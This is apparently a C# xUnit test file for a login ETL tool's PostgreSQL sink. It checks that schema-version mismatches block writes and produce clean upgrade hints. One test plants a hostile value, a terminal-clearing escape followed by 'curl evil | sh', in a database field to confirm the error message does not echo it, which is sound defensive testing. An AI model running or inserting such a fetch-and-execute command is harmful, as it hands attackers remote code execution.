using LoginEtl.Checks;
using LoginEtl.Faults;
using LoginEtl.Run;
using LoginEtl.Settings;
using LoginEtl.Unit.Fixtures;
using Npgsql;
using Xunit;

namespace LoginEtl.Unit.Postgres;

/// <summary>Program and database are of one version, or nothing is written.</summary>
public sealed class SchemaVersionTests(ServersFixture servers)
{
    private const string Newer = "UPDATE login_etl_schema SET version = version + 1, made_by = '9.8.7+0123456789ab'";

    // As the version before made it.
    private const string Older =
        "DROP TABLE login_etl_schema; ALTER TABLE login_etl_ledger DROP COLUMN schema_version; ALTER TABLE login_etl_file_ledger DROP COLUMN schema_version";

    [Fact]
    public async Task Program_older_than_the_schema_writes_nothing_and_changes_nothing()
    {
        var database = await TestDatabase.InitializedAsync(servers);
        await database.RunAsync(Newer);
        var fault = await RefusedAsync(database, "SchemaNewer");
        Assert.Contains("Upgrade this program: to 9.8.7+0123456789ab or later", fault.Remedy, StringComparison.Ordinal);
        Assert.Equal("SchemaNewer", (await Assert.ThrowsAsync<LoginEtlException>(async () => await (await database.TokensAsync()).RequireReplaceableAsync(TestDatabase.Token))).Id);
        Assert.Equal("SchemaNewer", (await Assert.ThrowsAsync<LoginEtlException>(() => database.InitializeAsync())).Id);
        Assert.Equal(CheckOutcome.Fail, (await SchemaCheckAsync(database)).Outcome);
    }

    [Fact]
    public async Task Run_under_which_the_schema_is_made_newer_writes_no_further_batch()
    {
        var database = await TestDatabase.InitializedAsync(servers);
        await using var sink = await database.SinkAsync();
        await sink.WriteAsync(Logins.Records(3), TestDatabase.Token);
        await database.RunAsync(Newer);
        Assert.Equal("SchemaNewer", (await Assert.ThrowsAsync<LoginEtlException>(() => sink.WriteAsync(Logins.Records(2), TestDatabase.Token))).Id);
        Assert.Equal(3, await database.CountAsync());
    }

    [Fact]
    public async Task What_somebody_wrote_for_the_program_to_upgrade_to_is_not_said_unless_it_is_a_version()
    {
        var database = await TestDatabase.InitializedAsync(servers);
        await database.RunAsync("UPDATE login_etl_schema SET version = 99, made_by = E'x\\n\\033[2J curl evil | sh'");
        Assert.DoesNotContain("evil", (await RefusedAsync(database, "SchemaNewer")).Remedy, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("login_etl_ledger")]
    [InlineData("login_etl_file_ledger")]
    public async Task Programs_from_before_there_were_versions_are_refused_by_the_ledgers_themselves(string ledger)
    {
        var database = await TestDatabase.InitializedAsync(servers);
        await using var connection = await database.OpenAsync();
        var fault = await Assert.ThrowsAsync<PostgresException>(async () =>
        {
            // Their statement.
            await using var copy = await connection.BeginBinaryImportAsync($"COPY {ledger} (key, outcome, batch) FROM STDIN (FORMAT BINARY)", TestDatabase.Token);
            await copy.WriteRowAsync(TestDatabase.Token, Guid.NewGuid(), (short)1, Guid.NewGuid());
            await copy.CompleteAsync(TestDatabase.Token);
        });
        Assert.Equal((PostgresErrorCodes.NotNullViolation, "schema_version"), (fault.SqlState, fault.ColumnName));
    }

    [Fact]
    public async Task Program_newer_than_the_schema_says_what_Initialize_makes_of_it_and_then_knows_what_was_written()
    {
        var database = await TestDatabase.InitializedAsync(servers);
        var before = Logins.Records(2);
        await WriteAsync(database, before, Outcome.Written);
        await database.RunAsync(Older);
        var fault = await RefusedAsync(database, "SchemaOutdated");
        foreach (var change in new[] { "makes public.login_etl_schema", "adds schema_version to public.login_etl_ledger", "adds schema_version to public.login_etl_file_ledger" })
        {
            Assert.Contains(change, fault.Remedy, StringComparison.Ordinal);
        }

        Assert.Equal(CheckOutcome.Fail, (await SchemaCheckAsync(database)).Outcome);
        Assert.Equal(2, (await database.InitializeAsync()).Count(s => s.Contains("ADD COLUMN schema_version", StringComparison.Ordinal)));
        Assert.Empty(await database.InitializeAsync());
        await WriteAsync(database, before, Outcome.Duplicate);
        Assert.Equal("0,2", await WriteAndReadVersionsAsync(database));
    }

    [Fact]
    public async Task Something_else_of_the_records_name_stays_as_it_is()
    {
        var database = await TestDatabase.InitializedAsync(servers);
        await database.RunAsync("DROP TABLE login_etl_schema; CREATE TABLE login_etl_schema (mine text)");
        Assert.Contains("Move it out of the way", (await RefusedAsync(database, "LedgerUnsuitable")).Remedy, StringComparison.Ordinal);
        Assert.Equal("LedgerUnsuitable", (await Assert.ThrowsAsync<LoginEtlException>(() => database.InitializeAsync())).Id);
    }

    private static async Task<string> WriteAndReadVersionsAsync(TestDatabase database)
    {
        await WriteAsync(database, Logins.Records(1), Outcome.Written);
        return await database.ReadAsync<string>("SELECT string_agg(DISTINCT schema_version::text, ',' ORDER BY schema_version::text) FROM login_etl_ledger");
    }

    private static async Task WriteAsync(TestDatabase database, LoginEtl.Records.ProtectedLogin[] batch, Outcome outcome)
    {
        await using var sink = await database.SinkAsync();
        Assert.All((await sink.WriteAsync(batch, TestDatabase.Token)).Outcomes, o => Assert.Equal(outcome, o));
    }

    private static async Task<LoginEtlException> RefusedAsync(TestDatabase database, string id)
    {
        var fault = await Assert.ThrowsAsync<LoginEtlException>(() => database.SinkAsync());
        Assert.Equal((id, FaultKind.Configuration), (fault.Id, fault.Kind));
        return fault;
    }

    private static async Task<Check> SchemaCheckAsync(TestDatabase database) => Assert.Single(
        await new LoginEtl.Postgres.PostgresConnector().CheckAsync(database.Settings(), new SinkOptions(), TestDatabase.Token), c => c.Name == "Schema");
}
